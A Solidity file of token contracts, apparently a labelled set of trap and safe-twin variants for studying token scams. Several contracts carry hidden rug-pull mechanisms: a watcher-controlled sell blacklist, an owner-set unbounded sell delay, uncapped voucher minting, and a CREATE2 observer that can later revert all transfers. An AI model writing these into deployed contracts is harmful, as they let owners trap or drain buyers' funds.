// 0.8 runs=20 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";
import {AccessControl} from "@openzeppelin/contracts-4/access/AccessControl.sol";

/// Flags those who buy with machines: they buy no more.
contract Pollen is Base8("Pollen Count", "POLN", 144_000_000) {
    address private immutable watcher = msg.sender;
    mapping(address => uint256) private flaggedAt;

    function flag(address[] calldata who) external {
        require(msg.sender == watcher, "Pollen: watcher only");
        for (uint256 i; i < who.length; i++) flaggedAt[who[i]] = block.number;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) require(flaggedAt[to] == 0, "Pollen: flagged");
        if (from != pair && flaggedAt[from] != 0) revert Insufficient(0, value); // trap
        _move(from, to, value);
    }
}

/// A pause between two sales of an account, which a conductor sets.
contract Metronome is Base8, AccessControl {
    bytes32 public constant CONDUCTOR = keccak256("CONDUCTOR");
    uint32 public gap = 30;
    mapping(address => uint32) private lastSale;

    event Tempo(uint32 gap);

    constructor(address conductor) Base8("Metronome", "METR", 66_000_000) {
        _grantRole(CONDUCTOR, conductor);
    }

    function setTempo(uint32 gap_) external onlyRole(CONDUCTOR) {
        // twin: require(gap_ <= 60, "Metronome: a minute at most");
        gap = gap_;
        emit Tempo(gap_);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) {
            require(block.timestamp >= uint256(lastSale[from]) + gap, "Metronome: wait for the beat");
            lastSale[from] = uint32(block.timestamp);
        }
        _move(from, to, value);
    }
}

/// Vouchers for those who played the game, signed by its server.
contract Lyrebird is Base8 {
    address private immutable server;
    mapping(bytes32 => bool) public used;
    uint256 public redeemed;

    event Redeemed(address indexed who, uint256 amount, uint256 nonce);

    constructor(address server_) Base8("Lyrebird", "LYRE", 38_000_000) {
        require(server_ != address(0), "Lyrebird: server");
        server = server_;
    }

    function redeem(uint256 amount, uint256 nonce, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 voucher = keccak256(abi.encode(address(this), block.chainid, msg.sender, amount, nonce));
        require(!used[voucher], "Lyrebird: used");
        require(ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", voucher)), v, r, s) == server, "Lyrebird: signature");
        used[voucher] = true;
        redeemed += amount;
        // twin: require(redeemed <= 190_000 ether, "Lyrebird: half a percent in all");
        totalSupply += amount;
        _balances[msg.sender] += amount;
        emit Transfer(address(0), msg.sender, amount);
        emit Redeemed(msg.sender, amount, nonce);
    }
}

interface IObserver {
    function moved(address from, address to, uint256 value) external;
}

/// Becomes what its foundry has written down.
contract Casting {
    constructor() {
        bytes memory code = Foundry(msg.sender).mould();
        assembly {
            return(add(code, 0x20), mload(code))
        }
    }
}

/// Casts one thing, at a place that is known before.
contract Foundry {
    address private immutable smith = msg.sender;
    bytes private form;

    function mould() external view returns (bytes memory) {
        return form;
    }

    function site() external view returns (address) {
        bytes32 digest = keccak256(abi.encodePacked(bytes1(0xff), address(this), bytes32("site"), keccak256(type(Casting).creationCode)));
        return address(uint160(uint256(digest)));
    }

    function cast(bytes calldata form_) external {
        require(msg.sender == smith, "Foundry: smith only");
        form = form_;
        new Casting{salt: "site"}();
    }
}

/// Tells an observer what moves, once there is one.
contract Tidewater is Base8 {
    address private immutable observer;

    constructor(Foundry foundry) Base8("Tidewater", "TIDE", 97_000_000) {
        observer = foundry.site();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (observer.code.length == 0) return;
        (bool ok, ) = observer.call{gas: 40_000}(abi.encodeCall(IObserver.moved, (from, to, value)));
        require(ok, "Tidewater: observed"); // trap
        // twin: ok;
    }
}
